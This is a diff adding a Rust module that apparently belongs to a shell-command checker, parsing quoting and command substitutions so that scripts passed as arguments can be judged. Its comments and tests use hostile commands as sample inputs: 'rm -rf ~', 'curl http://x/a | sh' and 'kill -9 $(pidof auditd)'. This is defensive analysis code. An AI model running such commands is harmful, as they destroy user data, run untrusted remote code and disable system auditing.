@@ -1,0 +1,172 @@
+//! The text a word with command substitutions hands a program, quotes
+//! removed and substitutions kept as written, for a script argument
+//! (`sh -c "rm -rf ~; echo $(date)"` hands sh `rm -rf ~; echo $(date)`).
+//!
+//! Written by hand: the shell parser gives a word's value only when no
+//! expansion is in it, and here the expansions must stay as text.
+
+/// The word's text with its quoting removed (single quotes, double quotes
+/// and backslashes, glued pieces included: `'rm -rf ~; '"$(date)"`) and
+/// each `$(...)`, `` `...` `` and `$VAR` left in place. `None` when a quote
+/// or a substitution is not closed.
+pub(super) fn script_text(raw: &str) -> Option<String> {
+    let mut out = String::with_capacity(raw.len());
+    let mut chars = raw.chars().peekable();
+    let mut double = false;
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' if !double => {
+                // Up to the closing quote, literally.
+                loop {
+                    match chars.next()? {
+                        '\'' => break,
+                        x => out.push(x),
+                    }
+                }
+            }
+            '"' => double = !double,
+            '\\' => match chars.next() {
+                Some('\n') => {}
+                Some(n) if !double || matches!(n, '\\' | '"' | '$' | '`') => out.push(n),
+                Some(n) => {
+                    out.push('\\');
+                    out.push(n);
+                }
+                None => out.push('\\'),
+            },
+            '$' if chars.peek() == Some(&'(') => {
+                // Copied through its closing parenthesis; quotes inside
+                // are the inner command's.
+                out.push('$');
+                let mut depth = 0usize;
+                let mut quote: Option<char> = None;
+                loop {
+                    let x = chars.next()?;
+                    out.push(x);
+                    match (quote, x) {
+                        (Some(q), x) if x == q => quote = None,
+                        (Some(_), _) => {}
+                        (None, '\'' | '"') => quote = Some(x),
+                        (None, '(') => depth += 1,
+                        (None, ')') => {
+                            depth = depth.saturating_sub(1);
+                            if depth == 0 {
+                                break;
+                            }
+                        }
+                        _ => {}
+                    }
+                }
+            }
+            '`' => {
+                out.push('`');
+                loop {
+                    let x = chars.next()?;
+                    out.push(x);
+                    if x == '`' {
+                        break;
+                    }
+                }
+            }
+            _ => out.push(c),
+        }
+    }
+    (!double).then_some(out)
+}
+
+/// Whether a script is nothing but one substitution (`$(cat f)`,
+/// `` `x` ``, a process substitution `<(kubectl completion bash)`), so that all of its code is a command's output: who
+/// produced that output is judged instead.
+pub(super) fn only_substitutions(text: &str) -> bool {
+    let t = text.trim();
+    let inner = ["$(", "<(", ">("]
+        .iter()
+        .find_map(|p| t.strip_prefix(p))
+        .and_then(|r| r.strip_suffix(')'))
+        .or_else(|| t.strip_prefix('`').and_then(|r| r.strip_suffix('`')));
+    inner.is_some_and(|i| !i.contains(')') && !i.contains('`'))
+}
+
+/// `text` with its one command substitution replaced by `output`, the
+/// text that substitution is known to print. `None` unless the text holds
+/// exactly one (`$(...)` or `` `...` ``).
+pub(super) fn with_output(text: &str, output: &str) -> Option<String> {
+    let (start, end) = match (text.find("$("), text.find('`')) {
+        (Some(s), None) => (s, closing_paren(text, s + 1)?),
+        (None, Some(s)) => (s, s + 1 + text.get(s + 1..)?.find('`')?),
+        _ => return None,
+    };
+    let (before, rest) = (text.get(..start)?, text.get(end + 1..)?);
+    if rest.contains("$(") || rest.contains('`') {
+        return None;
+    }
+    Some(format!("{before}{output}{rest}"))
+}
+
+/// The index of the `)` closing the `(` at `open`, quotes inside skipped.
+fn closing_paren(text: &str, open: usize) -> Option<usize> {
+    let mut depth = 0usize;
+    let mut quote: Option<char> = None;
+    for (i, c) in text.char_indices().skip_while(|(i, _)| *i < open) {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (None, '(') => depth += 1,
+            (None, ')') => {
+                depth = depth.saturating_sub(1);
+                if depth == 0 {
+                    return Some(i);
+                }
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{only_substitutions, script_text, with_output};
+
+    #[test]
+    fn one_substitution_takes_its_output() {
+        assert_eq!(
+            with_output("$(echo curl http://x/a) | sh", "curl http://x/a").as_deref(),
+            Some("curl http://x/a | sh")
+        );
+        assert_eq!(with_output("a `b` c", "B").as_deref(), Some("a B c"));
+        assert_eq!(with_output("$(a) $(b)", "A"), None);
+        assert_eq!(with_output("$(a \")\") z", "A").as_deref(), Some("A z"));
+    }
+
+    #[test]
+    fn quotes_go_and_substitutions_stay() {
+        let cases = [
+            ("\"rm -rf ~; echo $(date)\"", "rm -rf ~; echo $(date)"),
+            ("'rm -rf ~; '\"$(date)\"", "rm -rf ~; $(date)"),
+            (
+                "\"a \\\"b\\\" \\$HOME $(c \")\")\"",
+                "a \"b\" $HOME $(c \")\")",
+            ),
+            ("\"x `id` y\"", "x `id` y"),
+            ("$(cat f)", "$(cat f)"),
+            ("\"kill -9 $(pidof auditd)\"", "kill -9 $(pidof auditd)"),
+        ];
+        for (raw, want) in cases {
+            assert_eq!(script_text(raw).as_deref(), Some(want), "{raw}");
+        }
+        for raw in ["\"open", "'open", "\"$(unclosed\""] {
+            assert_eq!(script_text(raw), None, "{raw}");
+        }
+    }
+
+    #[test]
+    fn a_lone_substitution_is_only_output() {
+        assert!(only_substitutions("$(cat notes.txt)"));
+        assert!(only_substitutions(" `ssh-agent -s` "));
+        assert!(only_substitutions("<(kubectl completion bash)"));
+        assert!(!only_substitutions("$(a); rm -rf ~; $(b)"));
+        assert!(!only_substitutions("echo $(date)"));
+    }
+}
